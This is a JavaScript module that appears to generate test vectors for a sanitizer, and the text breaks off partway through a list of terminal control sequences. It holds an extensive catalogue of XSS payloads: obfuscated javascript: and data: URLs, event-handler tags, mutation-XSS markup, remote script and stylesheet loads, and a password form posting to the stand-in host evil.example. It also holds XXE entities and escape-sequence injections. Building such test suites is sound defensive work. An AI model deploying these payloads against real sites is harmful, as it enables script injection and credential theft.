// What hostile writers put in: addresses that run, markup that runs, texts that break out of where they are put. Each is
// a function of its vector's number, which comes back by the canary (`__pwned(7)`) or by a request to `evil.example/7`.
//
// `open.example` is a host that a writer names in plain words: a link there is right. Nothing may lead to
// `evil.example`: it is only named where a browser must not look for a host (in scripts, in encoded paths).

/** @import { Dice } from "./dice.mjs" */

/** @param {number} n */
export const canary = (n) => `__pwned(${n})`;
/** @param {number} n */
export const evil = (n) => `//evil.example/${n}`;
/** @param {number} n a word that stands beside the vector and can be searched for */
export const marker = (n) => `zq${String(n).padStart(5, "0")}w`;

/** Nobody can type these, and files can hold them. */
export const ODD = {
  nul: "\0",
  start: "\x01",
  unit: "\x1f",
  escape: "\x1b",
  delete: "\x7f",
  csi: "\x9b",
  nbsp: "\xa0",
  bom: "\ufeff",
  zero: "\u200b",
  soft: "\xad",
  override: "\u202e",
  line: "\u2028",
  open: "\ufdd0",
  close: "\ufdd1",
  non: "\ufffe",
};

/**
 * @template T
 * @typedef {{ name: string, make: T }} Named
 */

/** Of characters in HTML; Markdown decodes them too. @type {Named<(text: string, die: Dice) => string>[]} */
export const references = [
  { name: "as typed", make: (text) => text },
  { name: "decimal", make: (text) => each(text, (code) => `&#${code};`) },
  { name: "hexadecimal", make: (text) => each(text, (code) => `&#x${code.toString(16)};`) },
  { name: "hexadecimal with zeros", make: (text) => each(text, (code) => `&#X${code.toString(16).toUpperCase().padStart(7, "0")};`) },
  { name: "without semicolons", make: (text) => each(text, (code) => `&#${String(code).padStart(7, "0")}`) },
  {
    name: "mixed",
    make: (text, die) => each(text, (code) => die.pick([String.fromCodePoint(code), `&#${code};`, `&#x${code.toString(16)};`])),
  },
  {
    name: "named",
    make: (text) =>
      text.replace(/[:()\t\n]/g, (one) => ({ ":": "&colon;", "(": "&lpar;", ")": "&rpar;", "\t": "&Tab;", "\n": "&NewLine;" })[one] ?? one),
  },
  {
    name: "twice",
    make: (text) => each(text, (code) => (/[a-z]/i.test(String.fromCodePoint(code)) ? String.fromCodePoint(code) : `&amp;#${code};`)),
  },
];

/** @param {string} text @param {(code: number) => string} make */
function each(text, make) {
  return [...text].map((one) => make(one.codePointAt(0) ?? 0)).join("");
}

/** @param {string} text */
const percent = (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

/** Schemes, and what stands behind the colon. @type {Named<(n: number) => [scheme: string, rest: string]>[]} */
const SCHEMES = [
  { name: "javascript", make: (n) => ["javascript", canary(n)] },
  { name: "javascript with a host", make: (n) => ["javascript", `//evil.example/%0a${canary(n)}`] },
  { name: "javascript comment", make: (n) => ["javascript", `/*x*/${canary(n)}//`] },
  { name: "vbscript", make: (n) => ["vbscript", canary(n)] },
  { name: "data page", make: (n) => ["data", `text/html,%3Cscript%3E${canary(n)}%3C/script%3E`] },
  { name: "data page base64", make: (n) => ["data", `text/html;base64,${btoa(`<script>${canary(n)}</script>`)}`] },
  { name: "data drawing", make: (n) => ["data", `image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${canary(n)}'/%3E`] },
  {
    name: "data document",
    make: (n) => ["data", `application/xhtml+xml,%3Cscript%20xmlns='http://www.w3.org/1999/xhtml'%3E${canary(n)}%3C/script%3E`],
  },
  { name: "blob", make: (n) => ["blob", `https://help.example.com/${n}`] },
  { name: "view-source", make: (n) => ["view-source", `javascript:${canary(n)}`] },
  { name: "feed", make: (n) => ["feed", `javascript:${canary(n)}`] },
  { name: "jar", make: (n) => ["jar", `https://evil.example/${n}!/x.html`] },
  { name: "intent", make: (n) => ["intent", `//evil.example/${n}#Intent;scheme=x;end`] },
  { name: "program", make: (n) => ["ms-msdt", `/id PCWDiagnostic /param ${n}`] },
  { name: "search of the system", make: (n) => ["search-ms", `query=${n}&crumb=location:evil.example`] },
  { name: "file", make: (n) => ["file", `///etc/${n}`] },
  { name: "filesystem", make: (n) => ["filesystem", `https://evil.example/temporary/${n}`] },
  { name: "livescript", make: (n) => ["livescript", canary(n)] },
  { name: "unknown", make: (n) => ["x-attack", canary(n)] },
  { name: "about", make: (n) => ["about", `blank#${canary(n)}`] },
];

/** How the scheme hides. The first few are no disguise at all. @type {Named<(scheme: string, rest: string, die: Dice) => string>[]} */
const DISGUISES = [
  { name: "plain", make: (scheme, rest) => `${scheme}:${rest}` },
  {
    name: "case",
    make: (scheme, rest, die) => `${[...scheme].map((one) => (die.chance(0.5) ? one.toUpperCase() : one)).join("")}:${rest}`,
  },
  ...["\t", "\n", "\r", " ", ODD.start, ODD.unit, ODD.nul, ODD.bom, ODD.nbsp, ODD.zero, ODD.open, ODD.close].map((one) => ({
    name: `${code(one)} before`,
    make: (/** @type {string} */ scheme, /** @type {string} */ rest) => `${one}${scheme}:${rest}`,
  })),
  ...["\t", "\n", "\r", "\r\n", ODD.nul, ODD.zero, ODD.soft, ODD.open + ODD.close, `${ODD.open}0${ODD.close}`].map((one) => ({
    name: `${[...one].map(code).join(" ")} inside`,
    make: (/** @type {string} */ scheme, /** @type {string} */ rest, /** @type {Dice} */ die) => {
      const at = 1 + die.int(scheme.length - 1);
      return `${scheme.slice(0, at)}${one}${scheme.slice(at)}:${rest}`;
    },
  })),
  ...["\t", "\n", ODD.zero, ODD.open + ODD.close].map((one) => ({
    name: `${[...one].map(code).join(" ")} before the colon`,
    make: (/** @type {string} */ scheme, /** @type {string} */ rest) => `${scheme}${one}:${rest}`,
  })),
  { name: "percent colon", make: (scheme, rest) => `${scheme}%3a${rest}` },
  { name: "percent COLON", make: (scheme, rest) => `${scheme}%3A${rest}` },
  { name: "percent twice", make: (scheme, rest) => `${scheme}%253a${rest}` },
  { name: "percent letter", make: (scheme, rest) => `${percent(scheme.slice(0, 1))}${scheme.slice(1)}:${rest}` },
  { name: "percent all", make: (scheme, rest) => percent(`${scheme}:${rest}`) },
  { name: "percent tab", make: (scheme, rest) => `%09${scheme}%3a${rest}` },
  { name: "percent break", make: (scheme, rest) => `${scheme}%0a%3a${rest}` },
  { name: "below here", make: (scheme, rest) => `./${scheme}:${rest}` },
  { name: "percent below here", make: (scheme, rest) => `./${scheme}%3a${rest}` },
  { name: "below and up", make: (scheme, rest) => `x/../${scheme}:${rest}` },
  { name: "percent up", make: (scheme, rest) => `%2e%2e/%2e/${scheme}%3a${rest}` },
  { name: "behind http", make: (scheme, rest) => `http:${scheme}:${rest}` },
  { name: "wide colon", make: (scheme, rest) => `${scheme}：${rest}` },
  { name: "colon twice", make: (scheme, rest) => `${scheme}::${rest}` },
  { name: "a query", make: (scheme, rest) => `?${scheme}:${rest}` },
  { name: "an anchor", make: (scheme, rest) => `#${scheme}:${rest}` },
];

/** @param {string} one */
function code(one) {
  return `U+${(one.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}`;
}

/** Paths that must stay paths, and hosts that a policy or a parser may misread. @type {Named<(n: number) => string>[]} */
const PLACES = [
  { name: "slashes in percent", make: (n) => `%2f%2fevil.example%2f${n}` },
  { name: "slash in percent", make: (n) => `/%2fevil.example/${n}` },
  { name: "backslashes in percent", make: (n) => `%5c%5cevil.example%5c${n}` },
  { name: "https colon in percent", make: (n) => `https%3a//evil.example/${n}` },
  { name: "https in percent", make: (n) => `https%3a%2f%2fevil.example%2f${n}` },
  { name: "up and out", make: (n) => `..%2f..%2f..%2f..%2f%2fevil.example/${n}` },
  { name: "dots and slashes", make: (n) => `/.%2f%2fevil.example/${n}` },
  { name: "percent tab and slashes", make: (n) => `/%09/evil.example/${n}` },
  { name: "backslashes", make: (n) => `\\\\open.example\\${n}` },
  { name: "slash and backslash", make: (n) => `/\\open.example/${n}` },
  { name: "tab between slashes", make: (n) => `/\t/open.example/${n}` },
  { name: "three slashes", make: (n) => `///open.example/${n}` },
  { name: "no slashes", make: (n) => `https:open.example/${n}` },
  { name: "a name before the host", make: (n) => `https://help.example.com@open.example/${n}` },
  { name: "no host", make: () => "https://" },
  { name: "a host to fill in", make: (n) => `https://[your-server]/${n}` },
  { name: "a port to fill in", make: (n) => `https://open.example:PORT/${n}` },
  { name: "a space in the host", make: (n) => `https://open example/${n}` },
  { name: "a bracket in the host", make: (n) => `https://open<example/${n}` },
  { name: "a percent in the host", make: (n) => `https://%00open.example/${n}` },
  { name: "half a percent", make: (n) => `%zz%e0%a4${n}` },
  { name: "semicolon in the host", make: (n) => `https://a${n};script-src-elem/x.png` },
  { name: "comma in the host", make: (n) => `https://a${n},sandbox/x.png` },
  { name: "quote in the host", make: (n) => `https://a${n}'unsafe-inline'/x.png` },
  { name: "star in the host", make: (n) => `https://*/${n}.png` },
  { name: "star of a host", make: (n) => `https://*.open.example/${n}.png` },
  { name: "keyword as host", make: (n) => `https://'self'/${n}.png` },
  { name: "a long host", make: (n) => `https://${"a".repeat(64)}.open.example/${n}.png` },
  { name: "letters of two scripts", make: (n) => `https://оpen.example/${n}.png` },
  { name: "quotes in the path", make: (n) => `https://open.example/"onmouseover=${canary(n)}"/x.png` },
  { name: "brackets in the path", make: (n) => `/x"><img/src=x/onerror=${canary(n)}>` },
];

/**
 * An address that must not be followed as it is, for a place that takes one.
 * @typedef {{ name: string, text: string }} Address
 */

/** Pairs of a scheme and a disguise, or a place. @param {Dice} die @param {number} count @returns {((n: number) => Address)[]} */
export function addresses(die, count) {
  /** @type {((n: number) => Address)[]} */
  const all = [];
  let disguises = die.shuffled(DISGUISES);
  let places = die.shuffled(PLACES);
  while (all.length < count) {
    if (!disguises.length) disguises = die.shuffled(DISGUISES);
    if (!places.length) places = die.shuffled(PLACES);
    if (die.chance(0.25)) {
      const place = /** @type {Named<(n: number) => string>} */ (places.pop());
      all.push((n) => ({ name: place.name, text: place.make(n) }));
      continue;
    }
    const disguise = /** @type {typeof DISGUISES[number]} */ (disguises.pop());
    // Half of all is what runs in every browser.
    const scheme = die.chance(0.5) ? /** @type {typeof SCHEMES[number]} */ (SCHEMES[die.int(3)]) : die.pick(SCHEMES);
    all.push((n) => ({ name: `${scheme.name}, ${disguise.name}`, text: disguise.make(...scheme.make(n), die) }));
  }
  return all;
}

const HANDLERS = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onblur",
  "onmouseover",
  "onmouseenter",
  "onpointerover",
  "onpointerdown",
  "onauxclick",
  "ontoggle",
  "onbeforetoggle",
  "onanimationstart",
  "onanimationend",
  "ontransitionend",
  "ontransitionrun",
  "onloadstart",
  "oncanplay",
  "onplay",
  "onwheel",
  "onscroll",
  "onscrollend",
  "oncontentvisibilityautostatechange",
  "onbegin",
  "onend",
  "onrepeat",
  "oncopy",
  "oncut",
  "onpaste",
  "onbeforecopy",
  "onkeydown",
  "onkeypress",
  "oninput",
  "onchange",
  "onsubmit",
  "onreset",
  "onselect",
  "onselectstart",
  "oninvalid",
  "onsearch",
  "onformdata",
  "onhashchange",
  "onpageshow",
  "onmessage",
  "onresize",
  "onunhandledrejection",
  "onstart",
  "onfinish",
  "onbounce",
  "onshow",
  "onafterscriptexecute",
  "onsecuritypolicyviolation",
  "onwebkitanimationstart",
  "onsnapchanged",
  "oncommand",
  "onx-unknown",
];
const TAGS = [
  "img src=x",
  "image src=x",
  "svg",
  "svg/width=9",
  "math",
  "details open",
  "summary",
  "dialog open",
  "a href=#x",
  "b tabindex=0",
  "p",
  "div",
  "span",
  "section",
  "article",
  "video src=x",
  "video controls",
  "audio src=x",
  "source src=x",
  "track src=x",
  "table",
  "td",
  "th",
  "tr",
  "caption",
  "ul",
  "li",
  "ol start=2",
  "dl",
  "input autofocus",
  "input type=image src=x",
  "button autofocus",
  "select autofocus",
  "textarea autofocus",
  "keygen autofocus",
  "form",
  "label",
  "body",
  "html",
  "marquee",
  "iframe",
  "object data=x",
  "embed src=x",
  "link rel=stylesheet href=x",
  "style",
  "frameset",
  "picture",
  "map",
  "area href=#x",
  "kbd",
  "mark",
  "ruby",
  "time datetime=2026",
  "abbr title=x",
  "q cite=x",
  "meter",
  "progress",
  "slot",
  "template",
  "custom-element",
  "h2",
  "hr",
  "br",
  "wbr",
  "blockquote",
  "pre",
  "code",
  "figure",
  "ins",
  "del",
  "sub",
  "sup",
  "bdo dir=rtl",
  "search",
  "menu",
  "fieldset",
  "legend",
  "optgroup",
  "option",
  "canvas",
  "font",
  "center",
  "noscript",
  "xmp",
  "isindex",
  "portal",
  "selectedcontent",
];
const BETWEEN = [
  " ",
  "/",
  "\t",
  "\n",
  "\f",
  " / ",
  "//",
  ` ${ODD.nul}`,
  ' "',
  " '",
  " =",
  " x ",
  ' x="',
  ` ${ODD.open}`,
  " a=b ",
  ' title="x" ',
  " data-x ",
  ` ${ODD.nbsp}`,
  "\r\n",
];
/** @type {Named<(name: string, value: string) => string>[]} */
const QUOTES = [
  { name: "no quotes", make: (name, value) => `${name}=${value}` },
  { name: "double quotes", make: (name, value) => `${name}="${value}"` },
  { name: "single quotes", make: (name, value) => `${name}='${value}'` },
  { name: "back quotes", make: (name, value) => `${name}=\`${value}\`` },
  { name: "spaces around", make: (name, value) => `${name} = ${value} ` },
  { name: "a break behind", make: (name, value) => `${name}=\n"${value}"` },
  { name: "a quote never closed", make: (name, value) => `${name}="${value}` },
  { name: "capital letters", make: (name, value) => `${name.toUpperCase()}="${value}"` },
  { name: "twice", make: (name, value) => `${name}=x ${name}="${value}"` },
  { name: "NUL in the name", make: (name, value) => `${name.slice(0, 3)}${ODD.nul}${name.slice(3)}="${value}"` },
  { name: "as aria", make: (name, value) => `aria-x" ${name}="${value}"` },
  { name: "as data", make: (name, value) => `data-${name}="${value}" ${name}=${value}` },
  { name: "of a namespace", make: (name, value) => `xml:${name}="${value}" ${name}="${value}"` },
];
const ENDS = [">", "/>", "//>", ">x", "", " ", ">\n", "<", "x=y>", "> <!--", `${ODD.nul}>`];
const STARTS = ["<", "<<", "<!--><", "</p><", "<p <", "< <", "<x><", "<x/", "<?x?><", "<![CDATA[x]]><", "<!x><", "<b title='a", `<`];

/** Tags with handlers. @param {Dice} die @param {number} n @returns {{ name: string, text: string, open: boolean }} */
export function handler(die, n) {
  const name = die.pick(HANDLERS);
  const tag = die.pick(TAGS);
  const quote = die.pick(QUOTES);
  const start = die.chance(0.6) ? "<" : die.pick(STARTS);
  const between = die.chance(0.5) ? " " : die.pick(BETWEEN);
  const end = die.chance(0.6) ? ">" : die.pick(ENDS);
  const reference = die.chance(0.6) ? references[0] : die.pick(references);
  const text = `${start}${tag}${between}${quote.make(name, reference?.make(canary(n), die) ?? "")}${end}`;
  return {
    name: `<${tag}> ${name}, ${quote.name}, ${reference?.name}`,
    text,
    open: start !== "<" || end !== ">" || quote.name.includes("never"),
  };
}

/** Elements that load, run, or lead away by themselves. @type {Named<(n: number) => string>[]} */
export const ELEMENTS = [
  { name: "script", make: (n) => `<script>${canary(n)}</script>` },
  { name: "script in capitals", make: (n) => `<SCRIPT\t>${canary(n)}</SCRIPT\n>` },
  { name: "script of a host", make: (n) => `<script src=${evil(n)}></script>` },
  { name: "script module", make: (n) => `<script type=module>import "${evil(n)}"; ${canary(n)}</script>` },
  { name: "script inside of script", make: (n) => `<scr<script>ipt>${canary(n)}</scr</script>ipt>` },
  { name: "script never closed", make: (n) => `<script>${canary(n)}//` },
  { name: "script with a slash", make: (n) => `<script/x>${canary(n)}</script/x>` },
  { name: "import map", make: (n) => `<script type=importmap>{"imports":{"./dom.js":"${evil(n)}"}}</script>` },
  { name: "speculation rules", make: (n) => `<script type=speculationrules>{"prefetch":[{"urls":["${evil(n)}"]}]}</script>` },
  { name: "style import", make: (n) => `<style>@import "${evil(n)}";</style>` },
  { name: "style address", make: (n) => `<style>*{background:url(${evil(n)})}</style>` },
  { name: "style attribute", make: (n) => `<p style="background:url(${evil(n)})">text</p>` },
  {
    name: "style attribute over all",
    make: (n) => `<a href=https://open.example/${n} style="position:fixed;inset:0;z-index:9999">text</a>`,
  },
  { name: "style sheet", make: (n) => `<link rel=stylesheet href=${evil(n)}>` },
  { name: "preload", make: (n) => `<link rel=preload as=image href=${evil(n)}>` },
  { name: "module preload", make: (n) => `<link rel=modulepreload href=${evil(n)}>` },
  {
    name: "prefetch",
    make: (n) => `<link rel=prefetch href=${evil(n)}><link rel=dns-prefetch href=${evil(n)}><link rel=preconnect href=${evil(n)}>`,
  },
  { name: "icon", make: (n) => `<link rel=icon href=${evil(n)}>` },
  { name: "manifest", make: (n) => `<link rel=manifest href=${evil(n)}>` },
  { name: "base", make: (n) => `<base href=${evil(n)}><a href=x>text</a>` },
  { name: "base target", make: () => "<base target=_top>" },
  { name: "refresh", make: (n) => `<meta http-equiv=refresh content="0;url=${evil(n)}">` },
  { name: "refresh with script", make: (n) => `<meta http-equiv="refresh" content="0;url=javascript:${canary(n)}">` },
  { name: "policy", make: () => `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline' *">` },
  { name: "cookie", make: (n) => `<meta http-equiv=Set-Cookie content="a=${n}">` },
  { name: "frame", make: (n) => `<iframe src=${evil(n)}></iframe>` },
  { name: "frame of script", make: (n) => `<iframe src="javascript:parent.${canary(n)}"></iframe>` },
  { name: "frame of text", make: (n) => `<iframe srcdoc="<script>parent.${canary(n)}</script>"></iframe>` },
  { name: "frame of references", make: (n) => `<iframe srcdoc="&lt;img src=x onerror=parent.${canary(n)}&gt;"></iframe>` },
  { name: "frame set", make: (n) => `<frameset><frame src=${evil(n)}></frameset>` },
  { name: "object", make: (n) => `<object data=${evil(n)}></object>` },
  { name: "object of script", make: (n) => `<object data="javascript:${canary(n)}"></object>` },
  { name: "object of text", make: (n) => `<object data="data:text/html,<script>${canary(n)}</script>"></object>` },
  { name: "object with parameters", make: (n) => `<object><param name=src value=${evil(n)}><param name=url value=${evil(n)}></object>` },
  { name: "embed", make: (n) => `<embed src=${evil(n)}>` },
  { name: "embed of script", make: (n) => `<embed src="javascript:${canary(n)}" type=text/html>` },
  { name: "applet", make: (n) => `<applet code=X codebase=${evil(n)}></applet>` },
  { name: "form", make: (n) => `<form action="javascript:${canary(n)}"><button>text</button></form>` },
  { name: "form button", make: (n) => `<form id=f${n}></form><button form=f${n} formaction="javascript:${canary(n)}">text</button>` },
  {
    name: "form of a host",
    make: (n) => `<form action=https:${evil(n)}><input name=password type=password><button>Sign in</button></form>`,
  },
  { name: "input picture", make: (n) => `<input type=image src=${evil(n)}>` },
  { name: "body background", make: (n) => `<body background=${evil(n)}>` },
  { name: "table background", make: (n) => `<table background=${evil(n)}><tr><td background=${evil(n)}>text</table>` },
  { name: "ping", make: (n) => `<a href=https://open.example/${n} ping=${evil(n)}>text</a>` },
  { name: "attribution", make: (n) => `<a href=https://open.example/${n} attributionsrc=${evil(n)}>text</a>` },
  { name: "drawing", make: (n) => `<svg onload=${canary(n)}></svg>` },
  { name: "drawing with script", make: (n) => `<svg><script>${canary(n)}</script></svg>` },
  { name: "drawing with script as text", make: (n) => `<svg><script>&#95;_pwned(${n})</script></svg>` },
  { name: "drawing with script of a host", make: (n) => `<svg><script href=${evil(n)} xlink:href=${evil(n)} /></svg>` },
  { name: "drawing with link", make: (n) => `<svg><a xlink:href="javascript:${canary(n)}"><text x=9 y=9>text</text></a></svg>` },
  {
    name: "drawing that sets a link",
    make: (n) => `<svg><a><set attributeName=href to="javascript:${canary(n)}" /><text x=9 y=9>text</text></a></svg>`,
  },
  {
    name: "drawing that moves a link",
    make: (n) => `<svg><a href=#x><animate attributeName=href values="javascript:${canary(n)}" /><text x=9 y=9>text</text></a></svg>`,
  },
  {
    name: "drawing with handler of time",
    make: (n) => `<svg><animate attributeName=x dur=1ms onbegin=${canary(n)} onend=${canary(n)} /></svg>`,
  },
  {
    name: "drawing with a page",
    make: (n) =>
      `<svg><foreignObject><body onload=${canary(n)}><iframe src="javascript:parent.${canary(n)}"></iframe></foreignObject></svg>`,
  },
  {
    name: "drawing with use",
    make: (n) =>
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${canary(n)}'/></svg>#x" /></svg>`,
  },
  { name: "drawing with picture", make: (n) => `<svg><image href=${evil(n)} /><feImage href=${evil(n)} /></svg>` },
  { name: "drawing with style", make: (n) => `<svg><style>@import "${evil(n)}";</style></svg>` },
  { name: "formula with link", make: (n) => `<math href="javascript:${canary(n)}"><mi>text</mi></math>` },
  {
    name: "formula with action",
    make: (n) => `<math><maction actiontype=statusline xlink:href="javascript:${canary(n)}">text</maction></math>`,
  },
  {
    name: "formula with annotation",
    make: (n) => `<math><annotation-xml encoding=text/html><img src=x onerror=${canary(n)}></annotation-xml></math>`,
  },
  { name: "template", make: (n) => `<template><img src=x onerror=${canary(n)}></template>` },
  { name: "template with a root", make: (n) => `<div><template shadowrootmode=open><img src=x onerror=${canary(n)}></template></div>` },
  {
    name: "template with a style",
    make: (n) => `<div><template shadowrootmode=open><style>:host{background:url(${evil(n)})}</style></template></div>`,
  },
  { name: "video of a host in a picture", make: (n) => `<picture><source srcset=${evil(n)}><b>text</b></picture>` },
  { name: "marquee", make: (n) => `<marquee loop=1 width=0 onfinish=${canary(n)}>text</marquee>` },
  { name: "popover", make: (n) => `<button popovertarget=p${n}>text</button><div popover id=p${n} onbeforetoggle=${canary(n)}>text</div>` },
  {
    name: "command",
    make: (n) => `<button commandfor=c${n} command=show-modal>text</button><dialog id=c${n} oncommand=${canary(n)}>text</dialog>`,
  },
  { name: "fenced frame", make: (n) => `<fencedframe src=${evil(n)}></fencedframe><portal src=${evil(n)}></portal>` },
  {
    name: "old elements",
    make: (n) =>
      `<bgsound src=${evil(n)}><layer src=${evil(n)}></layer><xml src=${evil(n)}></xml><isindex action="javascript:${canary(n)}" type=image>`,
  },
  { name: "picture of a page", make: (n) => `<img src="data:text/html,<script>${canary(n)}</script>">` },
  { name: "policy of a host in a frame", make: (n) => `<iframe csp="script-src *" allow=camera src=${evil(n)}></iframe>` },
  { name: "is a form", make: (n) => `<div contenteditable onfocus=${canary(n)} autofocus tabindex=0>text</div>` },
  { name: "processing instruction", make: (n) => `<?xml-stylesheet href="javascript:${canary(n)}"?><?php echo 1 ?>` },
  { name: "doctype with entity", make: (n) => `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${canary(n)}>">]>&x;` },
  { name: "comment that ends early", make: (n) => `<!--><img src=x onerror=${canary(n)}>-->` },
  { name: "comment that ends with a bang", make: (n) => `<!-- x --!><img src=x onerror=${canary(n)}> -->` },
  { name: "comment in a comment", make: (n) => `<!-- <!-- --><img src=x onerror=${canary(n)}> -->` },
  { name: "comment that ends at once", make: (n) => `<!---><img src=x onerror=${canary(n)}>-->` },
  {
    name: "condition",
    make: (n) => `<!--[if true]><script>${canary(n)}</script><![endif]--><![if x]><img src=x onerror=${canary(n)}><![endif]>`,
  },
  { name: "CDATA", make: (n) => `<![CDATA[<img src=x onerror=${canary(n)}>]]><img src=x onerror=${canary(n)}>` },
  { name: "CDATA in a drawing", make: (n) => `<svg><![CDATA[><img src=x onerror=${canary(n)}>]]></svg>` },
  { name: "plain text", make: (n) => `<plaintext><img src=x onerror=${canary(n)}>` },
  { name: "end tag with a quote", make: (n) => `</p title="><img src=x onerror=${canary(n)}>">text` },
  { name: "declaration", make: (n) => `<!x title="><img src=x onerror=${canary(n)}>">` },
];

const ROOTS = [
  "svg",
  "math",
  "math><mtext",
  "math><mi",
  "svg><desc",
  "svg><title",
  "svg><foreignObject",
  "math><annotation-xml encoding=text/html",
  "math><annotation-xml",
  "select",
  "table",
  "form",
  "p",
  "b",
  "section",
  "template",
  "noscript",
  "details",
  "table><caption",
  "select><option",
  "dialog",
  "a href=#x",
  "button",
  "h2",
  "ruby><rt",
  "svg><p",
  "math><mglyph",
  "math><mtext><table><mglyph",
];
const RAW = [
  "style",
  "title",
  "textarea",
  "noscript",
  "xmp",
  "iframe",
  "noembed",
  "noframes",
  "script",
  "plaintext",
  "template",
  "option",
  "desc",
  "mtext><style",
  "malignmark><style",
  "font color=x><style",
  "select><style",
  "!--",
  "![CDATA[",
  "table><style",
  "form id=x></form><form><style",
];

/** Markup that a parser may read one way, write out, and a browser read another way. @param {Dice} die @param {number} n @param {string} [root] @param {string} [raw] */
export function mutation(die, n, root = die.pick(ROOTS), raw = die.pick(RAW)) {
  const attack = `<img src=x onerror=${canary(n)}>`;
  const first = /** @type {string} */ (raw.split(/[ >]/)[0]);
  const close = raw === "!--" ? "-->" : raw === "![CDATA[" ? "]]>" : `</${raw.split("><").at(-1)?.split(" ")[0] ?? first}>`;
  const [way, text] = die.pick(
    /** @type {[string, string][]} */ ([
      ["in an attribute", `<${root}><${raw}><a title="${close}${attack}">text</a>`],
      ["in an id", `<${root}><${raw}><b id='${close}${attack}'>text`],
      ["at once", `<${root}><${raw}>${close}${attack}`],
      ["in references", `<${root}><${raw}>&lt;/${first}&gt;&lt;img src=x onerror=${canary(n)}&gt;${close}`],
      ["in a comment", `<${root}><${raw}><!--${close}${attack}-->`],
      ["mis-nested", `<${root}><p><${raw}></p></${root.split(/[ >]/)[0]}>${close}${attack}`],
      ["behind the root's end", `<${root}></${root.split(/[ >]/)[0]}><${raw}><a alt="${close}${attack}">`],
      ["in an end tag", `<${root}><${raw}></${first} x="${close}${attack}">${attack}`],
      ["nested twice", `<${root}><${root}><${raw}><${raw}><b title="${close}${close}${attack}">`],
      ["deeply", `<${"b><".repeat(40)}${root}><${raw}><a title="${close}${attack}">`],
    ]),
  );
  return { name: `<${root}><${raw}> ${way}`, text };
}

/** Texts for places that hold plain text: names, titles, words, values. @type {Named<(n: number) => string>[]} */
export const TEXTS = [
  { name: "a tag", make: (n) => `<img src=x onerror=${canary(n)}>` },
  { name: "a tag behind quotes", make: (n) => `"><img src=x onerror=${canary(n)}>` },
  { name: "a tag behind single quotes", make: (n) => `'><svg onload=${canary(n)}>` },
  { name: "a script", make: (n) => `<script>${canary(n)}</script>` },
  { name: "the end of a title", make: (n) => `</title><script>${canary(n)}</script>` },
  { name: "the end of a script", make: (n) => `</script><script>${canary(n)}</script>` },
  { name: "the end of a style", make: (n) => `</style></textarea></noscript><img src=x onerror=${canary(n)}>` },
  { name: "the end of a comment", make: (n) => `--><img src=x onerror=${canary(n)}><!--` },
  { name: "the end of CDATA", make: (n) => `]]><img src=x onerror=${canary(n)}>` },
  { name: "an attribute", make: (n) => `" onmouseover="${canary(n)}" x="` },
  { name: "an attribute in single quotes", make: (n) => `' autofocus onfocus='${canary(n)}' x='` },
  { name: "an attribute without quotes", make: (n) => ` onmouseover=${canary(n)} ` },
  { name: "back quotes", make: (n) => `\`onmouseover=${canary(n)}` },
  { name: "references", make: (n) => `&lt;img src=x onerror=${canary(n)}&gt;` },
  { name: "numbered references", make: (n) => `&#60;img src=x onerror=${canary(n)}&#62;` },
  { name: "references without semicolons", make: (n) => `&ltimg src=x onerror=${canary(n)}&gt` },
  { name: "references twice", make: (n) => `&amp;lt;img src=x onerror=${canary(n)}&amp;gt;` },
  { name: "quotes as references", make: (n) => `&quot; onmouseover=&quot;${canary(n)}&quot; x=&quot;` },
  { name: "escapes of JavaScript", make: (n) => `\\u003cimg src=x onerror=${canary(n)}\\u003e` },
  { name: "percent", make: (n) => `%3Cimg%20src=x%20onerror=${canary(n)}%3E` },
  { name: "wide brackets", make: (n) => `＜img src=x onerror=${canary(n)}＞` },
  { name: "a template", make: (n) => `{{ "<img src=x onerror=${canary(n)}>" | safe }}` },
  { name: "a block of a template", make: (n) => `{% raw %}<img src=x onerror=${canary(n)}>{% endraw %}` },
  { name: "a pattern of replacement", make: (n) => `$&$'$\`$<n><img src=x onerror=${canary(n)}>` },
  { name: "braces", make: (n) => `{n}{ $n }{{n}}<img src=x onerror=${canary(n)}>` },
  { name: "a mark", make: (n) => `<mark></mark><mark><img src=x onerror=${canary(n)}></mark>` },
  { name: "isolates", make: (n) => `</bdi></a></li><img src=x onerror=${canary(n)}>` },
  { name: "a hole", make: (n) => `${ODD.open}0${ODD.close} onmouseover=${canary(n)} ` },
  { name: "a hole in references", make: (n) => `&#xFDD0;0&#xFDD1; onmouseover=${canary(n)} ` },
  { name: "an address", make: (n) => `javascript:${canary(n)}` },
  { name: "a link of Markdown", make: (n) => `[text](javascript:${canary(n)})` },
  { name: "a picture of Markdown", make: (n) => `![x](x"onerror="${canary(n)})` },
  { name: "a break", make: (n) => `text\n<img src=x onerror=${canary(n)}>` },
  { name: "a break and a rule", make: (n) => `text\r\n/* ${evil(n)} 301\r\n  Content-Security-Policy: script-src *` },
  { name: "a separator of lines", make: (n) => `text${ODD.line}<img src=x onerror=${canary(n)}>` },
  { name: "NUL", make: (n) => `<${ODD.nul}img src=x onerror=${canary(n)}>` },
  { name: "a reversed tag", make: (n) => `${ODD.override}<img src=x onerror=${canary(n)}>` },
  { name: "JSON", make: (n) => `","x":"<img src=x onerror=${canary(n)}>","y":"` },
  { name: "the prototype", make: (n) => `__proto__ constructor <img src=x onerror=${canary(n)}>` },
  { name: "an entity of XML", make: (n) => `&xxe;%xxe;<!ENTITY x SYSTEM "${evil(n)}">` },
  { name: "an element of XML", make: (n) => `</title><link xmlns="http://www.w3.org/1999/xhtml" href="${evil(n)}"/><title>` },
];

/** Control characters for terminals and for machines' formats. @type {Named<(n: number) => string>[]} */
export const CONTROLS = [
  { name: "a title of the terminal", make: (n) => `${ODD.escape}]0;${marker(n)}\x07` },
  { name: "a clear screen", make: () => `${ODD.escape}[2J${ODD.escape}[H` },
  { name: "a colour", make: () => `${ODD.escape}[31merror` },
  { name: "C1", make: () => `${ODD.csi}31m` },
  { name: "a link of the terminal", make: (n) => `${ODD.escape}]8;;https://open.example/${n}${ODD.escape}\\text` },
  { name: "backspaces", make: () => "text\b\b\b\b" },
  { name: "a carriage return", make: () => "text\rover it" },
  { name: "NUL", make: () => `text${ODD.nul}text` },
